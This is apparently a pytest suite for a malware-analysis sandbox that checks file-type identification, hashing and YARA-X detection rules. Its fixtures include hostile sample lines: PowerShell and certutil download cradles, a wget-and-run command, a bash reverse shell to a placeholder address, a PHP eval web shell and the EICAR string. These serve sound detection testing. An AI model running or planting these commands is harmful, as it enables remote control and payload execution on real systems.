"""What the built-in plugins find."""

from __future__ import annotations

import hashlib
import json
import os
import struct
from pathlib import Path

import pytest

from malbox_tui.config.settings import Isolation, PluginSettings
from malbox_tui.model.report import Classification, Confidence, Identification, PluginStatus, Verdict
from malbox_tui.plugins.registry import BUILTIN_FOLDER
from malbox_tui.ports import Findings
from tests.confine.rig import Rig, rig

pytestmark = pytest.mark.slow

EICAR = ("X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR" + "-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*").encode()


def pe(machine: int, dll: bool = False, subsystem: int = 3) -> bytes:
    """The headers of a PE file and nothing else."""
    optional = bytearray(0x60)
    struct.pack_into("<H", optional, 0, 0x10B)
    struct.pack_into("<H", optional, 0x44, subsystem)
    coff = struct.pack("<HHIIIHH", machine, 0, 0, 0, 0, len(optional), 0x2000 if dll else 0x2)
    return b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\0\0" + coff + bytes(optional) + bytes(512)


def elf(machine: int, bits: int = 64, order: str = "<") -> bytes:
    """The header of an ELF file and nothing else."""
    ident = b"\x7fELF" + bytes([bits // 32, 1 if order == "<" else 2, 1, 0]) + bytes(8)
    return ident + struct.pack(f"{order}HH", 2, machine) + bytes(200)


SAMPLES: dict[str, tuple[bytes, tuple[str, str | None, str | None]]] = {
    "PE, x86": (pe(0x14C), ("pe", "windows", "x86")),
    "PE, x64": (pe(0x8664, dll=True), ("pe", "windows", "x64")),
    "PE, arm64": (pe(0xAA64), ("pe", "windows", "arm64")),
    "PE, EFI": (pe(0x8664, subsystem=10), ("pe", None, "x64")),
    "ELF, x64": (elf(62), ("elf", "linux", "x64")),
    "ELF, big-endian MIPS": (elf(8, 32, ">"), ("elf", "linux", "mips")),
    "ELF, cut off": (b"\x7fELF\x02", ("elf", "linux", None)),
    "Mach-O": (b"\xcf\xfa\xed\xfe" + struct.pack("<I", 0x0100000C) + bytes(60), ("macho", "macos", "arm64")),
    "DOS header alone": (b"MZ" + bytes(58) + struct.pack("<I", 2**31) + b"x" * 200, ("dos", "windows", None)),
    "shell": (b'#!/bin/sh\nset -e\nfor f in *; do echo "$f"; done\n', ("script", "linux", None)),
    "text": (b"Just a line of text.\n", ("text", None, None)),
    "PDF": (b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n", ("pdf", None, None)),
    "zip": (b"PK\x05\x06" + bytes(18), ("zip", None, None)),
    "PNG": (b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + struct.pack(">II", 16, 16) + b"\x08\x02\0\0\0" + bytes(80), ("image", None, None)),
    "HTML": (b"<!DOCTYPE html>\n<html><head><title>x</title></head><body><p>Hello</p></body></html>\n", ("html", None, None)),
}

SUSPICIOUS = {
    "PowerShell_Download_Cradle": b"IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a.ps1')",
    "PowerShell_Encoded_Command": b"powershell.exe -nop -w hidden -enc " + b"SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA" * 2,
    "Shell_Download_And_Run": b"#!/bin/sh\nwget http://192.0.2.1/x86 -O /tmp/a; chmod 777 /tmp/a; /tmp/a\n",
    "Windows_Script_Download_Cradle": b'Set x = CreateObject("MSXML2.XMLHTTP")\nCreateObject("WScript.Shell").Run "a.exe"\n',
    "Living_Off_The_Land_Download": b"certutil -urlcache -split -f http://192.0.2.1/a.exe a.exe\r\n",
}
MALICIOUS = {
    "Unix_Reverse_Shell": b"#!/bin/bash\nbash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n",
    "PHP_Web_Shell": b"<?php @eval(base64_decode($_POST['x'])); ?>",
    "EICAR_Test_File": EICAR,
}


async def verdict_on(subject: Rig, sample: bytes) -> Verdict | None:
    (run,) = [run for run in (await subject.findings(sample)).runs if run.name == "yara-x"]
    assert run.status is PluginStatus.COMPLETED, run.reason
    return run.verdict


def identified(findings: Findings) -> Identification:
    assert all(run.status is PluginStatus.COMPLETED for run in findings.runs), findings.runs
    assert findings.identification is not None
    return findings.identification


async def test_digests_are_those_of_the_reference_tools(tmp_path: Path) -> None:
    sample = bytes(range(256)) * 20_000
    async with rig(
        tmp_path, plugins=PluginSettings(disabled=("file-type", "strings", "yara-x")), plugin_folder=BUILTIN_FOLDER
    ) as subject:
        run = await subject.run(sample)
        digests = json.loads(await subject.content(run, "digests"))
    for name in ("md5", "sha1", "sha256"):
        assert digests[name] == hashlib.new(name, sample).hexdigest()
    assert digests["ssdeep"] == "192:z" + "n" * 62 + "b:n", "as ssdeep 2.14.1 prints it"
    assert digests["size_bytes"] == len(sample)


async def test_fuzzy_hashes_are_those_of_ssdeep(tmp_path: Path) -> None:
    samples = {
        "1536:CLFUHlj6QUM8Jrx1ryVapiWXzp6nwx/6TqBWD9p3AGvF4RftHyRwmlD0Woz3c5QB:SUUk0rWQtXQKyTxfQzvyCc6MyV7": (
            hashlib.shake_256(b"noise").digest(100_000)
        ),
        "768:N/6z4x+fE9KaNgbmZMni1FyTYRor/kdq0PuhojCVsHvUBODI1inMeRk/yFYT2ppN:NSZdA6xcTGtoPSsR": (
            b"".join(b"line %d of a text that repeats itself a little\n" % number for number in range(1000))
        ),
    }
    async with rig(
        tmp_path, plugins=PluginSettings(disabled=("file-type", "strings", "yara-x")), plugin_folder=BUILTIN_FOLDER
    ) as subject:
        found = [json.loads(await subject.content(await subject.run(sample), "digests")) for sample in samples.values()]
    assert [digests["ssdeep"] for digests in found] == list(samples)


async def test_without_a_sandbox_too_nothing_is_left_beside_the_results(tmp_path: Path) -> None:
    async with rig(tmp_path, Isolation.LIMITS, plugin_folder=BUILTIN_FOLDER) as subject:
        assert all(run.status is PluginStatus.COMPLETED for run in (await subject.findings(EICAR)).runs)
        assert [path for path in tmp_path.glob("scratch/bench-*/scratch-*/**/*") if path.is_file()] == []


async def test_content_is_identified_by_its_bytes(tmp_path: Path) -> None:
    async with rig(
        tmp_path, plugins=PluginSettings(disabled=("digests", "strings", "yara-x")), plugin_folder=BUILTIN_FOLDER
    ) as subject:
        found = {}
        for name, (sample, _expected) in SAMPLES.items():
            identification = identified(await subject.findings(sample))
            found[name] = (identification.kind, identification.platform, identification.arch)
    assert found == {name: expected for name, (_sample, expected) in SAMPLES.items()}


def pe_with(section: bytes, code: bytes, directory: int | None = None, flags: int = 0x6000_0020) -> bytes:
    """A 64-bit PE file with one section, and something in one of its data directories."""
    optional = bytearray(112 + 16 * 8)
    struct.pack_into("<H", optional, 0, 0x20B)
    struct.pack_into("<H", optional, 0x44, 3)
    if directory is not None:
        struct.pack_into("<II", optional, 112 + 8 * directory, 0x2000, 72)
    coff = struct.pack("<HHIIIHH", 0x8664, 1, 0, 0, 0, len(optional), 0x2)
    start = b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\0\0" + coff + bytes(optional)
    header = struct.pack("<8sIIIIIIHHI", section, len(code), 0x1000, len(code), 1024, 0, 0, 0, 0, flags)
    return (start + header).ljust(1024, b"\0") + code


NOISE = hashlib.shake_128(b"noise").digest(8192)
TAGGED = {
    "plain": (pe_with(b".text", b"\x48\x89\xe5\xc3" * 2048), ("x64",)),
    "UPX": (pe_with(b"UPX0", b"\x90" * 2048), ("x64", "packed")),
    "dense code": (pe_with(b".text", NOISE), ("x64", "packed")),
    "dense data": (pe_with(b".rsrc", NOISE, flags=0x4000_0040), ("x64",)),
    ".NET": (pe_with(b".text", b"\0" * 2048, directory=14), ("x64", "dotnet")),
    "signed": (pe_with(b".text", b"\0" * 2048, directory=4), ("x64", "signed")),
    "DLL": (pe(0x14C, dll=True), ("x86", "dll")),
    "sections that are not there": (pe_with(b".text", NOISE)[:300], ("x64",)),
    "headers that lie": (pe(0x8664)[:100] + b"\xff" * 400, ("x64",)),
    "script": (SAMPLES["shell"][0], ("script",)),
    "archive": (SAMPLES["zip"][0], ("archive",)),
    "text": (SAMPLES["text"][0], ()),
}


async def test_what_a_content_is_like_is_said_in_short_words(tmp_path: Path) -> None:
    disabled = PluginSettings(disabled=("digests", "strings", "yara-x"))
    async with rig(tmp_path, plugins=disabled, plugin_folder=BUILTIN_FOLDER) as subject:
        found = {name: identified(await subject.findings(sample)).tags for name, (sample, _expected) in TAGGED.items()}
    assert found == {name: expected for name, (_sample, expected) in TAGGED.items()}


async def test_content_is_identified_before_its_run_and_nothing_of_that_is_kept(tmp_path: Path) -> None:
    async with rig(tmp_path, plugins=PluginSettings(disabled=("digests",)), plugin_folder=BUILTIN_FOLDER) as subject:
        bench = await subject.runner.acquire()
        for name in ("ELF, x64", "shell", "PNG"):
            sample, expected = SAMPLES[name]
            (bench.inbox / name).write_bytes(sample)
            found = await bench.identify(name)
            assert found is not None
            assert (found.kind, found.platform, found.arch) == expected
        assert await bench.identify("there is none") is None
        assert subject.news == []
        assert not [path for path in (tmp_path / "results").rglob("*") if path.is_file()]
        await subject.runner.release(bench)


async def test_without_the_plugin_whose_work_that_is_nobody_knows_what_a_content_is(tmp_path: Path) -> None:
    async with rig(tmp_path, plugins=PluginSettings(disabled=("file-type",)), plugin_folder=BUILTIN_FOLDER) as subject:
        bench = await subject.runner.acquire()
        (bench.inbox / "sample").write_bytes(SAMPLES["shell"][0])
        assert await bench.identify("sample") is None
        await subject.runner.release(bench)


async def test_our_rules_find_what_they_are_for(tmp_path: Path) -> None:
    async with rig(
        tmp_path, plugins=PluginSettings(disabled=("digests", "file-type", "strings")), plugin_folder=BUILTIN_FOLDER
    ) as subject:
        for classification, samples in ((Classification.SUSPICIOUS, SUSPICIOUS), (Classification.MALICIOUS, MALICIOUS)):
            for rule, sample in samples.items():
                verdict = await verdict_on(subject, sample)
                assert verdict is not None, rule
                assert (verdict.classification, verdict.labels) == (classification, (rule,))
        assert await verdict_on(subject, b"Nothing to see.\n") is None
        assert await verdict_on(subject, b"The EICAR file is not this one." + EICAR) is None


async def test_rules_of_the_operator_are_used_and_broken_ones_named(tmp_path: Path) -> None:
    rules = tmp_path / "rules"
    (rules / "deep").mkdir(parents=True)
    (rules / "deep" / "mine.yar").write_text(
        'rule Mine { meta: classification = "malicious" score = 77 strings: $a = "needle" condition: $a }'
    )
    (rules / "broken.yar").write_text("rule Broken\n{\n    condition: nothing_of_that_name\n}\n")
    (rules / "silent.yara").write_text('rule Silent { strings: $a = "haystack" condition: $a }')
    (rules / "notes.txt").write_text("no rules")
    plugins = PluginSettings(disabled=("digests", "file-type", "strings"), config={"yara-x": {"rules": str(rules)}})
    async with rig(tmp_path, plugins=plugins, plugin_folder=BUILTIN_FOLDER) as subject:
        assert await verdict_on(subject, b"a needle here") == Verdict(Classification.MALICIOUS, 77, Confidence.LOW, ("Mine",))
        assert await verdict_on(subject, b"a haystack") == Verdict(Classification.SUSPICIOUS, None, Confidence.LOW, ("Silent",))
        run = await subject.run(b"a needle")
        report = json.loads(await subject.content(run, "report"))
    callouts = [block["text"] for block in report["sections"][0]["blocks"] if block["type"] == "callout"]
    problem = "rules/broken.yar, line 3: unknown identifier `nothing_of_that_name`"
    assert callouts == [problem]
    assert (run.status, run.reason) == (PluginStatus.COMPLETED, f"degraded: {problem}")


async def test_what_is_no_file_among_the_rules_is_named_and_not_waited_for(tmp_path: Path) -> None:
    rules = tmp_path / "rules"
    (rules / "folder.yar").mkdir(parents=True)
    os.mkfifo(rules / "pipe.yar")
    (rules / "mine.yar").write_text('rule Mine { strings: $a = "needle" condition: $a }')
    plugins = PluginSettings(disabled=("digests", "file-type", "strings"), config={"yara-x": {"rules": str(rules)}})
    async with rig(tmp_path, plugins=plugins, plugin_folder=BUILTIN_FOLDER) as subject:
        run = await subject.run(b"a needle")
    assert run.verdict is not None
    assert run.verdict.labels == ("Mine",)
    assert run.reason == "degraded: rules/folder.yar: not a file; rules/pipe.yar: not a file"


@pytest.mark.parametrize("name", ["digests", "file-type", "strings", "yara-x"])
def test_rule_files_and_code_are_no_test_files_themselves(name: str) -> None:
    for path in (BUILTIN_FOLDER / name).rglob("*"):
        if path.is_file() and path.suffix != ".pyc":
            assert EICAR not in path.read_bytes()
            assert EICAR[28:62] not in path.read_bytes()
